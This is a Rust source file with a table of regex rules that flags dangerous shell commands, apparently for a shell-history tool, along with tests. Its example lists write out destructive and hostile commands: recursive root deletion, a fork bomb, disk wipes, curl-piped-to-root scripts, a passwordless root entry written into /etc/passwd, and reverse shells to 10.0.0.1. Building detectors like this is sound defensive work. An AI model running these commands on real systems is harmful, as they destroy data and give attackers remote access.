//! The risk rule table. Patterns are byte regexes in ASCII mode (`(?-u)`): a
//! shell command's dangerous parts are ASCII, and ASCII classes keep the set
//! small and quick to compile on every `caro history add`.
//!
//! Each rule carries its own examples (commands it must decide) and near
//! misses (commands it must leave alone); one test checks them all, and
//! `everyday_commands_are_safe` guards against false alarms.

use super::RiskLevel::{self, Critical, High, Moderate};

/// One risk rule.
#[derive(Debug)]
pub struct Rule {
    /// Stable name, used in tests and docs.
    pub id: &'static str,
    /// Rules about the same thing; only the most severe match of a family warns.
    pub family: &'static str,
    pub level: RiskLevel,
    /// Literals one of which any matching command contains (see `matcher`).
    pub triggers: &'static [&'static str],
    pub pattern: &'static str,
    /// Stored in `safety_warnings`.
    pub warning: &'static str,
    /// Commands this rule must decide, rated at its level.
    pub examples: &'static [&'static str],
    /// Commands close to the examples that this rule must leave alone.
    pub near_misses: &'static [&'static str],
}

/// A command word at the start of a command: after the line start, a
/// separator, or a wrapper such as `sudo` or `xargs`.
macro_rules! at_command {
    ($($part:literal),+ $(,)?) => {
        concat!(
            r"(?-u)(?:^\s*|[;&|(`{]\s*|\b(?:sudo|doas|xargs|exec|nohup|env|command|time|watch)\s+(?:-\S+\s+)*)",
            $($part),+
        )
    };
}

/// `rm` with a recursive flag, then the target (the caller's next part).
macro_rules! rm_recursive {
    ($target:literal) => {
        at_command!(
            r"rm\s+(?:-\S+\s+)*?(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+(?:-\S*\s+)*",
            $target,
            r#"(?:\s|$|[;&|)])"#
        )
    };
}

pub static RULES: &[Rule] = &[
    // --- critical -------------------------------------------------------
    Rule {
        id: "rm-recursive-root",
        family: "rm",
        level: Critical,
        triggers: &["rm"],
        pattern: rm_recursive!(r#"["']?/\*?["']?"#),
        warning: "recursively deletes everything from the root directory",
        examples: &[
            "rm -rf /",
            "sudo rm -rf /*",
            "rm -r -f /",
            "rm -fr --  /",
            "cd /tmp && rm -rf / tmp",
        ],
        near_misses: &["rm -rf ./build", "rm -f /tmp/lock"],
    },
    Rule {
        id: "rm-recursive-home",
        family: "rm",
        level: Critical,
        triggers: &["rm"],
        pattern: rm_recursive!(r#"["']?(?:~|\$HOME|\$\{HOME\})/?\*?["']?"#),
        warning: "recursively deletes your whole home directory",
        examples: &[
            "rm -rf ~",
            "rm -rf ~/",
            "rm -Rf $HOME",
            r#"rm --recursive "$HOME/""#,
        ],
        near_misses: &["rm -rf ~/tmp/cache", r#"rm -rf "$HOME/.cache/pip""#],
    },
    Rule {
        id: "rm-recursive-system-dir",
        family: "rm",
        level: Critical,
        triggers: &["rm"],
        pattern: rm_recursive!(
            r#"["']?/(?:bin|boot|dev|etc|home|lib|lib32|lib64|opt|proc|root|sbin|srv|sys|usr|var|System|Library|Applications|Users)/?\*?["']?"#
        ),
        warning: "recursively deletes a system directory",
        examples: &["sudo rm -rf /etc", "rm -rf /usr/", "rm -r /var/*"],
        near_misses: &["rm -rf /var/tmp/build", "rm -rf /etcetera-backup"],
    },
    Rule {
        id: "rm-no-preserve-root",
        family: "rm",
        level: Critical,
        triggers: &["rm"],
        pattern: at_command!(r"rm\s[^;&|]*--no-preserve-root\b"),
        warning: "disables rm's protection of the root directory",
        examples: &["rm -rf --no-preserve-root /tmp/x"],
        near_misses: &["rm -rf --preserve-root /tmp/x"],
    },
    Rule {
        id: "dd-to-disk",
        family: "disk-write",
        level: Critical,
        triggers: &["of=/dev/"],
        pattern: r"(?-u)\bdd\s[^;&|]*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/)",
        warning: "dd writes straight onto a disk device, destroying what is on it",
        examples: &[
            "dd if=image.iso of=/dev/sdb bs=4M",
            "sudo dd if=/dev/zero of=/dev/nvme0n1",
        ],
        near_misses: &[
            "dd if=/dev/zero of=test.img bs=1M count=10",
            "dd if=/dev/sda of=backup.img",
        ],
    },
    Rule {
        id: "redirect-to-disk",
        family: "disk-write",
        level: Critical,
        triggers: &[
            "/dev/sd",
            "/dev/hd",
            "/dev/vd",
            "/dev/xvd",
            "/dev/nvme",
            "/dev/mmcblk",
            "/dev/disk",
            "/dev/rdisk",
        ],
        pattern: r"(?-u)>\s*/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|rdisk\d)",
        warning: "output redirected onto a disk device overwrites its contents",
        examples: &["cat image.img > /dev/sda", "echo hi >/dev/nvme0"],
        near_misses: &["cat /dev/sda > disk.img", "echo hi > /dev/null"],
    },
    Rule {
        id: "mkfs",
        family: "filesystem",
        level: Critical,
        triggers: &["mkfs", "mke2fs", "newfs"],
        pattern: at_command!(r"(?:mkfs(?:\.\w+)?|mke2fs|mkfs_\w+|newfs(?:_\w+)?)\b"),
        warning: "creating a filesystem erases everything on the device",
        examples: &["mkfs.ext4 /dev/sdb1", "sudo mkfs -t xfs /dev/vdb"],
        near_misses: &["man mkfs", "echo mkfs.ext4 is slow"],
    },
    Rule {
        id: "wipe-disk",
        family: "disk-write",
        level: Critical,
        triggers: &["shred", "wipefs", "blkdiscard"],
        pattern: at_command!(r"(?:shred|wipefs|blkdiscard)\s[^;&|]*/dev/"),
        warning: "wipes a disk device",
        examples: &["wipefs -a /dev/sdb", "shred -n 3 /dev/sda"],
        near_misses: &["shred -u secrets.txt"],
    },
    Rule {
        id: "fork-bomb",
        family: "fork-bomb",
        level: Critical,
        triggers: &["()"],
        pattern: r"(?-u)[\w:.]+\s*\(\)\s*\{[^}]*\|[^}]*&[^}]*\}\s*;",
        warning: "fork bomb: spawns processes until the system stops responding",
        examples: &[":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb"],
        near_misses: &["f() { echo hi; }; f", "build() { make | tee log; }; build"],
    },
    Rule {
        id: "curl-pipe-sudo-shell",
        family: "remote-exec",
        level: Critical,
        triggers: &["sudo"],
        pattern: r"(?-u)\b(?:curl|wget|fetch)\s[^;&|]*\|\s*sudo\s+(?:-\S+\s+)*(?:\w+=\S*\s+)*(?:(?:ba|z|k|da|fi)?sh|python[0-9.]*|perl|ruby|node)\b",
        warning: "runs a script downloaded from the network as root, unread",
        examples: &[
            "curl -fsSL https://example.com/install.sh | sudo bash",
            "wget -qO- https://x.io/i | sudo -E sh",
        ],
        near_misses: &[
            "curl -s https://x.io/key.gpg | sudo apt-key add -",
            "curl -fsSL https://x.io/k | sudo tee /etc/apt/keyrings/x.asc",
        ],
    },
    Rule {
        id: "overwrite-auth-files",
        family: "auth-files",
        level: Critical,
        triggers: &["/etc/passwd", "/etc/shadow", "/etc/gshadow", "/etc/sudoers"],
        pattern: r"(?-u)(?:>{1,2}\s*|\btee\s+(?:-a\s+)?)/etc/(?:passwd|shadow|gshadow|sudoers)\b",
        warning: "overwrites the system's accounts or sudo rules",
        examples: &[
            "echo 'root::0:0::/root:/bin/sh' > /etc/passwd",
            "echo 'me ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
        ],
        near_misses: &["cat /etc/passwd", "grep me /etc/sudoers"],
    },
    Rule {
        id: "sysrq-trigger",
        family: "kernel",
        level: Critical,
        triggers: &["sysrq-trigger"],
        pattern: r"(?-u)/proc/sysrq-trigger\b",
        warning: "sends a raw command to the kernel (can crash or reboot at once)",
        examples: &["echo c > /proc/sysrq-trigger"],
        near_misses: &["cat /proc/sys/kernel/sysrq"],
    },
    // --- high -----------------------------------------------------------
    Rule {
        id: "rm-recursive-wildcard",
        family: "rm",
        level: High,
        triggers: &["rm"],
        pattern: rm_recursive!(r#"["']?(?:\*|\.|\.\.|\./\*|\.\./?\*?)["']?"#),
        warning: "recursively deletes everything in the current or parent directory",
        examples: &["rm -rf *", "rm -rf .", "rm -r ../"],
        near_misses: &["rm -rf ./build", "rm -f *.log"],
    },
    Rule {
        id: "rm-recursive-variable",
        family: "rm",
        level: High,
        triggers: &["rm"],
        pattern: rm_recursive!(r#"["']?\$\{?\w+\}?/["']?\*?["']?"#),
        warning:
            "recursive delete of a path built from a variable: if it is empty, this deletes from /",
        examples: &[r#"rm -rf "$STEAMROOT/"*"#, "rm -rf $BUILD_DIR/"],
        near_misses: &[r#"rm -rf "$BUILD_DIR/out""#, "rm -f $TMPFILE"],
    },
    Rule {
        id: "curl-pipe-shell",
        family: "remote-exec",
        level: High,
        triggers: &["curl", "wget", "fetch"],
        pattern: r"(?-u)\b(?:curl|wget|fetch)\s[^;&|]*\|\s*(?:(?:ba|z|k|da|fi)?sh\b|(?:python[0-9.]*|perl|ruby|node)(?:\s+-)?\s*(?:$|[;&|]))",
        warning: "runs a script downloaded from the network without reading it",
        examples: &[
            "curl -fsSL https://get.example.sh | sh",
            "wget -qO- https://x.io/i | bash -s -- --yes",
            "curl https://x.io/setup.py | python3 -",
        ],
        near_misses: &[
            "curl -s https://api.example.com | python3 -m json.tool",
            "curl -fsSL https://x.io/install.sh -o install.sh",
        ],
    },
    Rule {
        id: "shell-eval-remote",
        family: "remote-exec",
        level: High,
        triggers: &["curl", "wget"],
        pattern: r#"(?-u)(?:\b(?:ba|z|k|da)?sh|\beval|\bsource|(?:^|\s)\.)\s+(?:-c\s+)?["']?(?:\$\(|<\(|`)\s*(?:curl|wget)\b"#,
        warning: "evaluates a script downloaded from the network without reading it",
        examples: &[
            r#"sh -c "$(curl -fsSL https://x.io/install.sh)""#,
            "bash <(curl -s https://x.io/i)",
            r#"eval "$(wget -qO- https://x.io/env)""#,
        ],
        near_misses: &[
            r#"eval "$(ssh-agent -s)""#,
            "curl -s https://x.io/i -o i.sh",
        ],
    },
    Rule {
        id: "chmod-recursive-system",
        family: "chmod",
        level: High,
        triggers: &["chmod"],
        pattern: r#"(?-u)\bchmod\s+(?:-\S+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\S+\s+)*\S+\s+["']?/(?:bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)?/?\*?["']?(?:\s|$|[;&|])"#,
        warning: "recursively changes permissions of the whole system or a system directory",
        examples: &["chmod -R 777 /", "sudo chmod -R 755 /etc"],
        near_misses: &["chmod -R u+w build", "sudo chmod -R 755 /var/www/site"],
    },
    Rule {
        id: "chown-recursive-system",
        family: "chown",
        level: High,
        triggers: &["chown"],
        pattern: r#"(?-u)\bchown\s+(?:-\S+\s+)*-[a-zA-Z]*R[a-zA-Z]*\s+(?:-\S+\s+)*\S+\s+["']?/(?:bin|boot|etc|home|lib|lib64|opt|root|sbin|usr|var)?/?\*?["']?(?:\s|$|[;&|])"#,
        warning: "recursively changes the owner of the whole system or a system directory",
        examples: &["sudo chown -R me:me /", "chown -R nobody /usr"],
        near_misses: &[
            "chown -R me:me ./project",
            "sudo chown -R www-data /var/www",
        ],
    },
    Rule {
        id: "partition-table",
        family: "filesystem",
        level: High,
        triggers: &["fdisk", "sfdisk", "gdisk", "sgdisk", "cfdisk", "parted"],
        pattern: at_command!(
            r"(?:fdisk|sfdisk|gdisk|sgdisk|cfdisk|parted)\s+(?:-[a-km-zA-Z]\S*\s+)*/dev/"
        ),
        warning: "edits a disk's partition table",
        examples: &["sudo fdisk /dev/sda", "parted /dev/nvme0n1 mklabel gpt"],
        near_misses: &["sudo fdisk -l /dev/sda", "sudo fdisk -l"],
    },
    Rule {
        id: "mkswap-device",
        family: "filesystem",
        level: High,
        triggers: &["mkswap"],
        pattern: at_command!(r"mkswap\s+(?:-\S+\s+)*/dev/"),
        warning: "turns a disk device into swap, erasing it",
        examples: &["mkswap /dev/sdb2"],
        near_misses: &["mkswap swapfile"],
    },
    Rule {
        id: "kill-all-processes",
        family: "kill",
        level: High,
        triggers: &["kill"],
        pattern: r"(?-u)\bkill\s+(?:-(?:9|KILL|SIGKILL|s\s+KILL)\s+)?-1\s*(?:$|[;&|])",
        warning: "kills every process you are allowed to signal",
        examples: &["kill -9 -1", "kill -KILL -1"],
        near_misses: &["kill -9 4242", "kill -1 4242"],
    },
    Rule {
        id: "sql-drop",
        family: "sql",
        level: High,
        triggers: &["drop"],
        pattern: r"(?-u)(?i)\bdrop\s+(?:database|schema|table)\b",
        warning: "drops a database, schema or table",
        examples: &[
            "psql -c 'DROP DATABASE prod'",
            r#"mysql -e "drop table users""#,
        ],
        near_misses: &["psql -c 'DROP INDEX idx_users'", "dropdb --help"],
    },
    Rule {
        id: "sql-truncate",
        family: "sql",
        level: High,
        triggers: &["truncate"],
        pattern: r"(?-u)(?i)\btruncate\s+table\b",
        warning: "empties a table",
        examples: &["psql -c 'TRUNCATE TABLE orders'"],
        near_misses: &["truncate -s 10M disk.img"],
    },
    Rule {
        id: "sql-delete-without-where",
        family: "sql",
        level: High,
        triggers: &["delete"],
        pattern: r#"(?-u)(?i)\bdelete\s+from\s+[\w."`\[\]]+\s*(?:;|$|["'])"#,
        warning: "deletes every row of a table (no WHERE clause)",
        examples: &[
            "sqlite3 app.db 'DELETE FROM users;'",
            r#"psql -c "delete from sessions""#,
        ],
        near_misses: &["psql -c 'DELETE FROM users WHERE id = 3'", "delete-me.sh"],
    },
    Rule {
        id: "datastore-flush",
        family: "sql",
        level: High,
        triggers: &["flushall", "flushdb", ".drop"],
        pattern: r"(?-u)(?i)\bflush(?:all|db)\b|\.drop(?:Database)?\(\s*\)",
        warning: "erases a whole datastore or collection",
        examples: &["redis-cli FLUSHALL", "mongo app --eval 'db.dropDatabase()'"],
        near_misses: &["redis-cli ping", "mongo app --eval 'db.users.find()'"],
    },
    Rule {
        id: "kubectl-delete-broad",
        family: "kubectl",
        level: High,
        triggers: &["delete"],
        pattern: r"(?-u)\bkubectl\s+(?:\S+\s+)*?delete\s+(?:\S+\s+)*?(?:--all\b|--all-namespaces\b|-A\b|(?:namespaces?|ns)\b)",
        warning: "deletes a namespace or every resource of a kind",
        examples: &[
            "kubectl delete namespace prod",
            "kubectl delete pods --all",
            "kubectl -n x delete ns staging",
        ],
        near_misses: &["kubectl delete pod web-1", "kubectl get ns"],
    },
    Rule {
        id: "terraform-destroy",
        family: "terraform",
        level: High,
        triggers: &["destroy"],
        pattern: r"(?-u)\b(?:terraform|tofu)\s+(?:-\S+\s+)*(?:destroy\b|apply\s[^;&|]*-destroy\b)",
        warning: "destroys all infrastructure the configuration manages",
        examples: &["terraform destroy", "tofu apply -destroy"],
        near_misses: &["terraform plan -destroy", "terraform apply"],
    },
    Rule {
        id: "cloud-storage-delete",
        family: "cloud-storage",
        level: High,
        triggers: &["aws", "gsutil", "gcloud"],
        pattern: r"(?-u)\baws\s+s3\s+(?:rm\s[^;&|]*--recursive|rb\s[^;&|]*--force)\b|\bgsutil\s+(?:-\S+\s+)*rm\s+(?:-\S+\s+)*-[a-zA-Z]*r|\bgcloud\s+storage\s+rm\s[^;&|]*--recursive\b",
        warning: "recursively deletes cloud storage objects or buckets",
        examples: &[
            "aws s3 rm s3://bucket --recursive",
            "aws s3 rb s3://bucket --force",
            "gsutil -m rm -r gs://b",
        ],
        near_misses: &[
            "aws s3 rm s3://bucket/file.txt",
            "aws s3 ls s3://bucket --recursive",
        ],
    },
    Rule {
        id: "repo-delete",
        family: "repo-delete",
        level: High,
        triggers: &["repo"],
        pattern: r"(?-u)\b(?:gh|glab)\s+repo\s+delete\b",
        warning: "deletes a hosted repository",
        examples: &["gh repo delete me/project --yes"],
        near_misses: &["gh repo clone me/project"],
    },
    Rule {
        id: "firewall-flush",
        family: "firewall",
        level: High,
        triggers: &["iptables", "ip6tables", "nft", "ufw"],
        pattern: r"(?-u)\b(?:iptables|ip6tables)\s+(?:-t\s+\w+\s+)?(?:-F|--flush)\b|\bnft\s+flush\s+ruleset\b|\bufw\s+(?:--force\s+)?(?:disable|reset)\b",
        warning: "removes the firewall rules",
        examples: &["sudo iptables -F", "nft flush ruleset", "ufw disable"],
        near_misses: &["sudo iptables -L", "ufw enable"],
    },
    Rule {
        id: "ssh-service-stop",
        family: "ssh-service",
        level: High,
        triggers: &["systemctl", "service"],
        pattern: r"(?-u)\bsystemctl\s+(?:stop|disable|mask)\s+(?:--now\s+)?sshd?(?:\.service)?\b|\bservice\s+sshd?\s+stop\b",
        warning: "stops SSH: a remote session may lose its way back in",
        examples: &["sudo systemctl stop sshd", "systemctl disable --now ssh"],
        near_misses: &["systemctl status sshd", "sudo systemctl restart sshd"],
    },
    Rule {
        id: "crontab-remove",
        family: "crontab",
        level: High,
        triggers: &["crontab"],
        pattern: r"(?-u)\bcrontab\s+(?:-u\s+\S+\s+)?-r\b",
        warning: "removes all your cron jobs without asking",
        examples: &["crontab -r"],
        near_misses: &["crontab -l", "crontab -e"],
    },
    Rule {
        id: "reverse-shell",
        family: "reverse-shell",
        level: High,
        triggers: &["nc", "ncat", "netcat", "/dev/tcp/", "/dev/udp/"],
        pattern: r"(?-u)\b(?:nc|ncat|netcat)\s[^;&|]*-[a-zA-Z]*[ec]\s+/bin/(?:ba|z)?sh\b|-i\s*>&\s*/dev/(?:tcp|udp)/",
        warning: "opens a shell for a remote host (reverse shell)",
        examples: &[
            "nc -e /bin/sh 10.0.0.1 4444",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        ],
        near_misses: &["nc -zv example.com 443", "bash -i"],
    },
    Rule {
        id: "passwd-delete",
        family: "accounts",
        level: High,
        triggers: &["passwd"],
        pattern: r"(?-u)\bpasswd\s+(?:-\S+\s+)*-d\b",
        warning: "removes an account's password: anyone can log in as it",
        examples: &["sudo passwd -d root"],
        near_misses: &["passwd", "sudo passwd -l bob"],
    },
    Rule {
        id: "mv-to-dev-null",
        family: "mv",
        level: High,
        triggers: &["mv"],
        pattern: r"(?-u)\bmv\s+(?:\S+\s+)+/dev/null\b",
        warning: "moves files to /dev/null, destroying them",
        examples: &["mv important.db /dev/null"],
        near_misses: &["mv notes.txt ~/archive/"],
    },
    Rule {
        id: "mv-root-or-home",
        family: "mv",
        level: High,
        triggers: &["mv"],
        pattern: r#"(?-u)\bmv\s+(?:-\S+\s+)*["']?(?:/|~|\$HOME)/?\*?["']?\s"#,
        warning: "moves the root or home directory away",
        examples: &["mv ~ /tmp/old-home", "sudo mv / /mnt"],
        near_misses: &["mv ~/Downloads/file.iso /tmp/", "mv ./a /tmp/b"],
    },
    Rule {
        id: "find-delete-root",
        family: "find",
        level: High,
        triggers: &["find"],
        pattern: r"(?-u)\bfind\s+(?:/|~|\$HOME)/?\s[^;&|]*(?:-delete\b|-exec\s+rm\b)",
        warning: "deletes files found anywhere under / or your home",
        examples: &[
            "find / -name '*.log' -delete",
            "find ~ -type f -exec rm {} +",
        ],
        near_misses: &["find . -name '*.pyc' -delete", "find / -name '*.conf'"],
    },
    // --- moderate -------------------------------------------------------
    Rule {
        id: "rm-recursive",
        family: "rm",
        level: Moderate,
        triggers: &["rm"],
        pattern: rm_recursive!(r"\S+"),
        warning: "recursive delete: check the path, there is no undo",
        examples: &[
            "rm -rf node_modules",
            "rm -r build/",
            "sudo rm -rf /tmp/cache",
        ],
        near_misses: &["rm file.txt", "rm -f *.log", "rmdir empty"],
    },
    Rule {
        id: "find-delete",
        family: "find",
        level: Moderate,
        triggers: &["find"],
        pattern: r"(?-u)\bfind\s[^;&|]*(?:-delete\b|-exec\s+rm\b)",
        warning: "deletes every file find matches",
        examples: &["find . -name '*.pyc' -delete"],
        near_misses: &["find . -type f -name '*.tmp' -print"],
    },
    Rule {
        id: "chmod-world-writable",
        family: "chmod",
        level: Moderate,
        triggers: &["chmod"],
        pattern: r"(?-u)\bchmod\s+(?:-\S+\s+)*(?:0?777|[ugoa]*o[ugoa]*\+[rx]*w|a\+rwx)\b",
        warning: "makes files writable by every user",
        examples: &["chmod 777 uploads", "chmod o+w file"],
        near_misses: &["chmod 755 bin/tool", "chmod 644 file"],
    },
    Rule {
        id: "chmod-setuid",
        family: "chmod-setuid",
        level: Moderate,
        triggers: &["chmod"],
        pattern: r"(?-u)\bchmod\s+(?:-\S+\s+)*(?:[ugoa]*\+[rwxt]*s|[4-7][0-7]{3})\b",
        warning: "sets the setuid/setgid bit: the program runs with its owner's rights",
        examples: &["chmod u+s /usr/local/bin/tool", "chmod 4755 tool"],
        near_misses: &["chmod +x script.sh", "chmod 0755 bin/tool"],
    },
    Rule {
        id: "git-force-push",
        family: "git-push",
        level: Moderate,
        triggers: &["push"],
        pattern: r"(?-u)\bgit\s+(?:-\S+\s+)*push\b[^;&|]*?\s(?:--force|-f|--mirror)(?:\s|$)|\bgit\s+push\s+(?:-\S+\s+)*\S+\s+\+\S",
        warning: "force push rewrites the remote branch; others' commits can be lost",
        examples: &[
            "git push --force",
            "git push -f origin main",
            "git push origin +main",
        ],
        near_misses: &["git push --force-with-lease", "git push origin main"],
    },
    Rule {
        id: "git-push-delete",
        family: "git-push",
        level: Moderate,
        triggers: &["push"],
        pattern: r"(?-u)\bgit\s+push\s+(?:\S+\s+)*(?:--delete|-d)\b|\bgit\s+push\s+\S+\s+:\S",
        warning: "deletes a branch or tag on the remote",
        examples: &["git push origin --delete old", "git push origin :old"],
        near_misses: &["git push origin main", "git push origin feature/delete-old"],
    },
    Rule {
        id: "git-reset-hard",
        family: "git-discard",
        level: Moderate,
        triggers: &["--hard"],
        pattern: r"(?-u)\bgit\s+reset\s+(?:\S+\s+)*?--hard\b",
        warning: "discards uncommitted changes",
        examples: &["git reset --hard", "git reset HEAD~3 --hard"],
        near_misses: &["git reset --soft HEAD~1"],
    },
    Rule {
        id: "git-clean-force",
        family: "git-discard",
        level: Moderate,
        triggers: &["clean"],
        pattern: r"(?-u)\bgit\s+clean\s+(?:\S+\s+)*?-[a-zA-Z]*f",
        warning: "deletes untracked files",
        examples: &["git clean -fdx", "git clean -d -f"],
        near_misses: &["git clean -n"],
    },
    Rule {
        id: "git-discard-worktree",
        family: "git-discard",
        level: Moderate,
        triggers: &["checkout", "restore"],
        pattern: r"(?-u)\bgit\s+(?:checkout|restore)\s+(?:--\s+)?\.(?:\s|$)",
        warning: "discards uncommitted changes in the working tree",
        examples: &["git checkout -- .", "git restore ."],
        near_misses: &["git checkout main", "git restore --staged file.rs"],
    },
    Rule {
        id: "git-branch-force-delete",
        family: "git-branch",
        level: Moderate,
        triggers: &["branch"],
        pattern: r"(?-u)\bgit\s+branch\s+(?:\S+\s+)*?(?:-D|--delete\s+--force|-d\s+-f)\b",
        warning: "deletes a branch even if it is not merged",
        examples: &["git branch -D feature"],
        near_misses: &["git branch -d merged-feature"],
    },
    Rule {
        id: "git-history-rewrite",
        family: "git-history",
        level: Moderate,
        triggers: &["filter-branch", "filter-repo", "stash"],
        pattern: r"(?-u)\bgit\s+(?:filter-branch|filter-repo)\b|\bgit\s+stash\s+clear\b",
        warning: "rewrites history or drops stashes for good",
        examples: &[
            "git filter-branch --tree-filter 'rm x' HEAD",
            "git stash clear",
        ],
        near_misses: &["git stash pop", "git stash list"],
    },
    Rule {
        id: "docker-prune",
        family: "docker",
        level: Moderate,
        triggers: &["prune", "down"],
        pattern: r"(?-u)\bdocker\s+(?:system|volume|image|container|network|builder)\s+prune\b|\bdocker[- ]compose\s+down\s+(?:\S+\s+)*?(?:-v|--volumes)\b",
        warning: "removes Docker data (volumes, images or containers)",
        examples: &["docker system prune -a", "docker compose down -v"],
        near_misses: &["docker compose down", "docker system df"],
    },
    Rule {
        id: "docker-privileged",
        family: "docker-privileged",
        level: Moderate,
        triggers: &["--privileged", "/:/"],
        pattern: r"(?-u)\bdocker\s+run\s[^;&|]*(?:--privileged\b|-v\s+/:/)",
        warning: "gives a container full access to the host",
        examples: &[
            "docker run --privileged -it ubuntu",
            "docker run -v /:/host alpine",
        ],
        near_misses: &[
            "docker run -it --rm ubuntu bash",
            "docker run -v /srv/data:/data alpine",
        ],
    },
    Rule {
        id: "kubectl-delete",
        family: "kubectl",
        level: Moderate,
        triggers: &["delete"],
        pattern: r"(?-u)\bkubectl\s+(?:\S+\s+)*?delete\b",
        warning: "deletes cluster resources",
        examples: &["kubectl delete pod web-1"],
        near_misses: &["kubectl get pods", "kubectl describe pod web-1"],
    },
    Rule {
        id: "terraform-auto-approve",
        family: "terraform",
        level: Moderate,
        triggers: &["-auto-approve"],
        pattern: r"(?-u)\b(?:terraform|tofu)\s+apply\s[^;&|]*-auto-approve\b",
        warning: "applies infrastructure changes without showing the plan",
        examples: &["terraform apply -auto-approve"],
        near_misses: &["terraform apply"],
    },
    Rule {
        id: "shutdown-reboot",
        family: "power",
        level: Moderate,
        triggers: &[
            "shutdown",
            "reboot",
            "halt",
            "poweroff",
            "init",
            "systemctl",
        ],
        pattern: at_command!(
            r"(?:shutdown|reboot|halt|poweroff)\b|\binit\s+[06]\b|\bsystemctl\s+(?:poweroff|reboot|halt)\b"
        ),
        warning: "shuts down or restarts the machine",
        examples: &["sudo reboot", "shutdown -h now", "systemctl poweroff"],
        near_misses: &["echo reboot required", "terraform init"],
    },
    Rule {
        id: "truncate-file",
        family: "truncate",
        level: Moderate,
        triggers: &["truncate"],
        pattern: r"(?-u)\btruncate\s+(?:-\S+\s+)*(?:-s\s*0|--size[= ]0)\b",
        warning: "empties a file",
        examples: &["truncate -s 0 app.log"],
        near_misses: &["truncate -s 10M disk.img"],
    },
    Rule {
        id: "overwrite-dotfile",
        family: "dotfile",
        level: Moderate,
        triggers: &[
            ".bashrc",
            ".zshrc",
            ".profile",
            ".bash_profile",
            ".zprofile",
            "authorized_keys",
            ".ssh/config",
        ],
        pattern: r"(?-u)(?:^|[^>])>\s*(?:~|\$HOME)/\.(?:bashrc|zshrc|profile|bash_profile|zprofile|ssh/authorized_keys|ssh/config)\b",
        warning: "overwrites a shell or SSH configuration file",
        examples: &["echo 'x' > ~/.bashrc"],
        near_misses: &["echo 'alias g=git' >> ~/.zshrc", "cat ~/.bashrc"],
    },
    Rule {
        id: "clear-shell-history",
        family: "shell-history",
        level: Moderate,
        triggers: &["history"],
        pattern: r"(?-u)\bhistory\s+-c\b|>\s*(?:~|\$HOME)/\.(?:bash|zsh)_history\b",
        warning: "erases your shell history",
        examples: &["history -c", "cat /dev/null > ~/.bash_history"],
        near_misses: &["history | grep ssh"],
    },
    Rule {
        id: "publish-package",
        family: "publish",
        level: Moderate,
        triggers: &["publish", "twine", "gem"],
        pattern: r"(?-u)\b(?:npm|yarn|pnpm)\s+publish\b|\bcargo\s+publish\b|\btwine\s+upload\b|\bgem\s+push\b",
        warning: "publishes a package: a release cannot be taken back",
        examples: &["npm publish", "cargo publish --allow-dirty"],
        near_misses: &["npm run publish-docs"],
    },
    Rule {
        id: "selinux-disable",
        family: "selinux",
        level: Moderate,
        triggers: &["setenforce"],
        pattern: r"(?-u)\bsetenforce\s+0\b",
        warning: "turns SELinux enforcement off",
        examples: &["sudo setenforce 0"],
        near_misses: &["sudo setenforce 1"],
    },
    Rule {
        id: "user-delete",
        family: "accounts",
        level: Moderate,
        triggers: &["userdel", "deluser"],
        pattern: at_command!(r"(?:userdel|deluser)\b"),
        warning: "deletes a user account",
        examples: &["sudo userdel -r bob"],
        near_misses: &["man userdel"],
    },
    Rule {
        id: "curl-insecure",
        family: "tls",
        level: Moderate,
        triggers: &["curl", "wget"],
        // `-k` alone or inside a cluster of curl's value-less short flags
        // (`-sk`, `-fsSLk`); a flag that takes a value (`-dkey=1`) is not one.
        pattern: r"(?-u)\b(?:curl\s(?:[^;&|]*\s)?(?:-[sSLviIfgGNnqjJOZ0-9]*k[sSLviIfgGNnqjJOZ0-9]*|--insecure)|wget\s[^;&|]*--no-check-certificate)\b",
        warning: "turns off TLS certificate checks",
        examples: &[
            "curl -k https://internal",
            "curl -sk https://internal",
            "curl -kv https://internal",
            "curl -fsSLk https://internal -o setup.sh",
            "wget --no-check-certificate https://x",
        ],
        near_misses: &[
            "curl -K curlrc https://internal",
            "curl https://internal",
            "curl -dkey=1 https://internal",
            "curl -s https://example.com/kit",
        ],
    },
];

#[cfg(test)]
mod tests {
    use super::super::{assess, rule_set, RiskLevel};
    use super::RULES;

    /// Every rule decides each of its examples, at its own level, and
    /// leaves each of its near misses alone.
    #[test]
    fn every_rule_decides_its_examples_and_not_its_near_misses() {
        assert!(RULES.len() >= 40, "the issue asks for at least 40 rules");
        let mut failures = Vec::new();
        for (index, rule) in RULES.iter().enumerate() {
            assert!(
                !rule.examples.is_empty(),
                "rule {} has no examples",
                rule.id
            );
            assert!(
                !rule.near_misses.is_empty(),
                "rule {} has no near misses",
                rule.id
            );
            for example in rule.examples {
                let a = assess(example);
                if !a.rule_ids.contains(&rule.id) || a.level != rule.level {
                    failures.push(format!(
                        "{}: {example:?} should be {} by it, got {} by {:?}",
                        rule.id, rule.level, a.level, a.rule_ids
                    ));
                }
            }
            for near_miss in rule.near_misses {
                if rule_set().matches(near_miss.as_bytes()).contains(&index) {
                    failures.push(format!("{}: {near_miss:?} should not match", rule.id));
                }
            }
        }
        assert!(failures.is_empty(), "{}", failures.join("\n"));
    }

    /// A trigger is only a shortcut: on every command the tests know, the
    /// rules found through triggers are exactly those whose regex matches.
    #[test]
    fn triggers_hide_no_match() {
        let set = rule_set();
        let known = RULES
            .iter()
            .flat_map(|r| r.examples.iter().chain(r.near_misses))
            .chain(EVERYDAY);
        for command in known {
            let text = command.as_bytes();
            assert_eq!(
                set.matches(text),
                set.matches_unguarded(text),
                "{command:?}"
            );
        }
    }

    #[test]
    fn rule_ids_are_unique() {
        let mut ids: Vec<_> = RULES.iter().map(|r| r.id).collect();
        ids.sort_unstable();
        ids.dedup();
        assert_eq!(ids.len(), RULES.len());
    }

    #[test]
    fn a_family_warns_once_at_its_highest_level() {
        let a = assess("rm -rf /");
        assert_eq!(a.level, RiskLevel::Critical);
        assert_eq!(a.rule_ids, vec!["rm-recursive-root"]);
        assert_eq!(a.warnings.len(), 1);
        let a = assess("curl -s https://x.io | sudo bash");
